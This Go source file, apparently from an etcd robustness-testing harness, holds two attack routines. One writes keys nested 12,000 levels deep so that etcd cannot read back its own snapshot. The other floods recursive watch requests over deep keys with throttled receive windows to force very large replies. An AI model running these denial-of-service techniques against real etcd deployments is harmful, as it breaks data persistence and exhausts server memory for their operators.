package attack

import (
	"context"
	"fmt"
	"strings"
)

// deepLevels is more than the levels that etcd can read back from its own snapshot: Go's
// JSON decoder accepts 10,000 nested values, and a level of keys is two of them.
const deepLevels = 12_000

// deepKey writes keys of thousands of levels.
func deepKey(ctx context.Context, c *crew, ready func()) error {
	for n := range 3 {
		target := fmt.Sprintf("/v2/keys%s/d%d%s", c.Folder, n, strings.Repeat("/a", deepLevels))
		k, err := c.dial(ctx, n, dialOptions{})
		if err != nil {
			continue
		}
		if a, err := c.newAsker(k); err == nil {
			_, _ = a.ask(&request{method: "PUT", target: target, body: "value=x", authorization: c.authorization()})
		}
		k.leave(false)
	}
	ready()
	<-ctx.Done()
	return nil
}

// answerLevels is how deep a key can be if its target has at most 4,000 bytes.
const answerLevels = 1_900

// deepAnswers writes three keys of nearly two thousand levels, and asks for the tree above
// them many times. An answer names each key whole, and has thousands of times the bytes of the
// writes. It takes none of the answers.
func deepAnswers(ctx context.Context, c *crew, ready func()) error {
	for n := range 3 {
		_, _ = c.put(ctx, fmt.Sprintf("%s/d%d%s", c.Folder, n, strings.Repeat("/a", answerLevels)), "x") // it may be refused
	}
	read := func(n int) *request {
		target := fmt.Sprintf("/v2/keys%s?recursive=true&waitIndex=%d", c.Folder, n+1)
		return &request{method: "GET", target: target, authorization: c.authorization()}
	}
	connections, requests := 200, 1
	if c.Protocol == HTTP2 {
		connections, requests = 2, 100
	}
	return c.hold(ctx, &holding{
		connections: connections, receive: smallBuffer, reads: c.Protocol == HTTP2, streams: requests,
		first: c.firsts(requests, noWindow, read), again: read,
	}, ready)
}
